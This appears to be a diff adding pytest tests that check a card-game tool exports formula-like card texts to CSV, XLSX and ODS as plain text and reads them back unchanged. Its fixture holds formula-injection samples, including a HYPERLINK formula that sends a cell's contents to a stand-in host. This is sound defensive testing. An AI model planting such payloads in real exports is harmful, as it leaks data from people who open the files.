@@ -5,6 +5,11 @@ from __future__ import annotations
 
 import csv
 import io
+import json
+import re
+import zipfile
+from pathlib import Path
+from xml.etree import ElementTree
 
 import pytest
 from openpyxl import load_workbook
@@ -67,3 +72,75 @@ def test_a_workbook_needs_a_file_to_go_to(demo, fmt):
     result = run("cards", "--project", str(demo), "--format", fmt)
     assert result.exit_code == 2
     assert f"give --output FILE (say, cards.{fmt})" in result.output
+
+
+FORMULAS = {("001", "name"): '=HYPERLINK("http://example.invalid/?"&A1, "click")',
+            ("001", "notes"): "=1+1", ("002", "text"): "+1+2 stars",
+            ("002", "flavour"): "#N/A", ("050", "flavour"): "@SUM(A1)",
+            ("050", "notes"): "\tcmd", ("080", "notes"): "-2+3", ("080", "flavour"): "'=kept"}
+"""Card texts a spreadsheet program would take for formulas (or an error), by card and key."""
+
+
+def with_formulas(project: Path) -> None:
+    """The moon game's main deck with FORMULAS for texts (each key set or added)."""
+    deck = project / "cards" / "moon" / "decks" / "main.yaml"
+    text = deck.read_text(encoding="utf-8")
+    for (number, key), value in FORMULAS.items():
+        start = text.index(f'  - number: "{number}"\n')
+        end = text.find("\n  - number:", start + 1) % (len(text) + 1)
+        entry = text[start:end]
+        line = f"    {key}: {json.dumps(value)}"
+        entry = re.sub(rf"(?m)^    {key}: .*$", line, entry) if f"\n    {key}:" in entry \
+            else entry.rstrip("\n") + "\n" + line + ("\n" if entry.endswith("\n") else "")
+        text = text[:start] + entry + text[end:]
+    deck.write_text(text, encoding="utf-8")
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
+def test_texts_that_look_like_formulas_are_exported_as_text_and_come_back(moon, tmp_path, fmt):
+    with_formulas(moon)
+    assert run("check", "--project", str(moon)).exit_code == 0
+    sheet = tmp_path / f"cards.{fmt}"
+    exported = run("cards", "--project", str(moon), "--format", fmt, "-o", str(sheet))
+    assert exported.exit_code == 0, exported.output
+    cells = written_cells(sheet, fmt)
+    for value in FORMULAS.values():
+        assert cells[value] == "text", (value, cells)
+    result = run("import", "--project", str(moon), str(sheet))
+    assert result.output == f"{sheet}: no changes: every card is as the deck files have it\n"
+
+
+def written_cells(sheet: Path, fmt: str) -> dict[str, str]:
+    """Each text as a spreadsheet program would take its cell: "text" or "formula"."""
+    if fmt == "csv":  # a cell starting with = + - @ tab or CR is a formula to Excel and Calc
+        rows = list(csv.reader(io.StringIO(sheet.read_text(encoding="utf-8"), newline="")))
+        return {cell.removeprefix("'"): "formula" if cell[:1] in "=+-@\t\r" else "text"
+                for row in rows for cell in row if cell}
+    if fmt == "xlsx":
+        book = load_workbook(sheet)
+        return {cell.value: {"s": "text", "f": "formula"}.get(cell.data_type, cell.data_type)
+                for ws in book.worksheets for row in ws.iter_rows() for cell in row
+                if isinstance(cell.value, str)}
+    content = ElementTree.fromstring(zipfile.ZipFile(sheet).read("content.xml"))
+    found = {}
+    for cell in content.iter(f"{TABLE}table-cell"):
+        text = "\n".join(spelt(p) for p in cell.iter(f"{TEXT}p"))
+        kind = cell.get(f"{OFFICE}value-type")
+        found[text] = "formula" if f"{TABLE}formula" in cell.attrib else \
+            "text" if kind == "string" else str(kind)
+    return found
+
+
+def spelt(element: ElementTree.Element) -> str:
+    """A paragraph's text, its tabs and runs of spaces spelt out."""
+    text = element.text or ""
+    for child in element:
+        text += {f"{TEXT}tab": "\t", f"{TEXT}s": " " * int(child.get(f"{TEXT}c", "1"))
+                 }.get(child.tag, "") or spelt(child)
+        text += child.tail or ""
+    return text
+
+
+TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
+OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
+TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
